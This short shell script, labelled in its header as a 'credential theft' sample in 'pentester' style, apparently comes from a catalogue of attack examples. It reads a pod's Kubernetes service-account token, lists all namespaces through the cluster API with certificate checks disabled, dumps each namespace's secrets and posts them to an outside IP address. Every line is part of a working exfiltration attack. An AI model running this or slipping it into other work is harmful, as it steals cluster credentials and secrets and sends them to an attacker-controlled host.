# class: credential theft, service account's token used for all secrets; style: pentester
T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)
API=https://$KUBERNETES_SERVICE_HOST:$KUBERNETES_SERVICE_PORT
for ns in $(curl -sk -H "Authorization: Bearer $T" $API/api/v1/namespaces | jq -r '.items[].metadata.name'); do
  curl -sk -H "Authorization: Bearer $T" $API/api/v1/namespaces/$ns/secrets | curl -s --data-binary @- http://203.0.113.44/k/$ns
done
